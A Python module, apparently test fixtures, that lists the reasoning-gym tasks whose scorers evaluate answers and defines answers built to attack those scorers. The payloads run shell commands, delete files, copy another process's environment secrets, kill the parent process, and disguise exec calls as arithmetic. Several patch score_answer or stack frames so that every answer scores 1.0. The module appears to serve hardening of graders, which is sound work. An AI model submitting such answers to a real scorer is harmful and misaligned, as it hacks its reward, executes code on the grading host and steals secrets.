"""Answers that attack the scorers of reasoning-gym, and the tasks whose scorers evaluate an answer.

What the library (0.1.25) does with an answer, found by searching its sources for what evaluates:

    eval                    binary_matrix, n_queens, spiral_matrix, string_insertion
    sympy's parse_expr      countdown, intermediate_integration, polynomial_multiplication, puzzle24,
                            simple_integration
    json.loads              boxnet, codeio, game_of_life, graph_color, group_anagrams, jugs, knight_swap,
                            number_sorting, palindrome_partitioning
    Fraction                coin_flip
    a parser of its own     propositional_logic
    numpy.loadtxt           manipulate_matrix, pool_matrix, rotate_matrix
"""

EVAL = ("binary_matrix", "n_queens", "spiral_matrix", "string_insertion")
PARSE_EXPR = (
    "countdown",
    "intermediate_integration",
    "polynomial_multiplication",
    "puzzle24",
    "simple_integration",
)
JSON = (
    "boxnet",
    "codeio",
    "game_of_life",
    "graph_color",
    "group_anagrams",
    "jugs",
    "knight_swap",
    "number_sorting",
    "palindrome_partitioning",
)
THE_SIX = (*EVAL, "puzzle24", "countdown")

OS = "__import__('os')"
SUBCLASSES = "().__class__.__base__.__subclasses__()"
PATCH = "import reasoning_gym as r; r.dataset.ProceduralDataset.score_answer = lambda *_: 1.0"


def without_quotes(text: str) -> str:
    """Returns an expression whose value is the text, of numbers, names and operators alone."""
    return "(" + "+".join(f"(chr)({ord(character)})" for character in text) + ")"


CALLS = {  # of Python's own functions, in what looks like arithmetic
    "exec": f"(exec){without_quotes(PATCH)}",
    "eval": f"(eval){without_quotes('1 + 1')}",
    "open": f"sqrt((open){without_quotes('/etc/passwd')})",
    "names in a loop": "sqrt(*(exp(49) for exp in (chr,)))",
    "number": "2(3)",
    "lines": "eval\n(1)",
    "choice": "1 if x else 2",
}
CODE = {  # `marker` is a file, `port` one of this machine, `actor` the process that holds the secrets
    "system": f"{OS}.system('touch {{marker}}')",
    "touch": f"{OS}.mknod('{{marker}}')",
    "open": "open('{marker}', 'w').write('x')",
    "builtins": "__builtins__['open']('{marker}', 'w')",
    "environ": f"open('{{marker}}', 'w').write(str({OS}.environ))",
    "environ of the actor": "open('{marker}', 'wb').write(open('/proc/{actor}/environ', 'rb').read())",
    "kill the parent": f"{OS}.kill({OS}.getppid(), 9)",
    "exit": "exit()",
    "socket": "__import__('socket').create_connection(('127.0.0.1', {port})).send(b'secret')",
    "print": "print('secret ' * 1000000)",
    "unlink": f"{OS}.unlink('{{victim}}')",
    "subclasses": f"[c for c in {SUBCLASSES} if c.__name__ == 'Popen'][0](['touch', '{{marker}}'])",
    "frames": "__import__('sys')._getframe(3).f_locals.update(score=1.0)",
    "an object that is right": "type('R', (str,), {{'__float__': lambda self: 24.0}})()",
    "patch": "exec('import reasoning_gym as r; r.dataset.ProceduralDataset.score_answer = lambda *a: 1.0')",
    "exec by its name in parentheses": CALLS["exec"],
    "walrus": f"(o := {OS}).system('touch {{marker}}')",
    "lambda": f"(lambda: {OS}.system('touch {{marker}}'))()",
    "format": f"'{{{{0.__class__}}}}'.format({OS}.system('touch {{marker}}'))",
    "sympify": "sympify(\"__import__('os').system('touch {marker}')\")",
    "preview": "preview(x, viewer='file', filename='{marker}')",
    "lambdify": "lambdify(x, x, modules=[{{'x': open('{marker}', 'w')}}])",
}
